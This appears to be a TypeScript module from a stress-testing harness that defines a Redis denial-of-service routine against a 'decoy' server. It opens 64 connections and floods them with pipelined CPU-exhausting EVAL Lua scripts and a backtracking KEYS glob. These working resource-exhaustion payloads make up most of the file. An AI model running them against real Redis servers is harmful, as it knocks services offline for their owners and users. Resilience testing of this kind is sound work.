// Lines of a hundred bytes that compute for as long as they are let.
import { setTimeout as pause } from 'node:timers/promises'
import { AGAIN_MS, dial, type Attack, type NamedAttack } from './attack.ts'

const CONNECTIONS = 64

const command = (...words: string[]): Buffer =>
  Buffer.from(`*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`)

/** What patterns are compared with. */
const LONG_KEY = command('SET', 'a'.repeat(200_000), '1')

const LINES = [
  command('EVAL', "local s=string.rep('x',1000000) for i=1,300000 do string.reverse(s) end", '0'),
  command('EVAL', "local s=string.rep('(',60000) return s:find('%b()')", '0'),
  command('EVAL', 'local t={} for i=1,40 do t={t,t} end return t', '0'),
  command('EVAL', 'for i=1,150000 do end', '0'),
  command('KEYS', `*${'a*'.repeat(30)}b`),
]

/** Each connection sends the next one once it has an answer, or a hundred of them at once. */
const computing: Attack = async ({ decoys }, isOver) => {
  let sent = 0
  const lane = async (_: unknown, n: number): Promise<void> => {
    const line = LINES[n % LINES.length]!
    const lines = n % 4 === 0 ? Buffer.concat(Array<Buffer>(100).fill(line)) : line
    while (!isOver()) {
      const socket = await dial(decoys.redis)
      if (socket) {
        const send = (): void => {
          sent += 1
          if (!socket.destroyed) socket.write(lines)
        }
        socket.on('data', send)
        socket.resume().write(LONG_KEY)
        send()
        while (!isOver() && !socket.destroyed) await pause(50)
        socket.destroy()
      }
      await pause(AGAIN_MS)
    }
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, lane))
  return sent
}

export const REDIS_ATTACKS: Readonly<Record<string, NamedAttack>> = {
  'redis-lines': {
    title: '64 connections with lines of 100 bytes that compute: EVAL, KEYS',
    limits: { decoyMs: 100 },
    run: computing,
  },
}
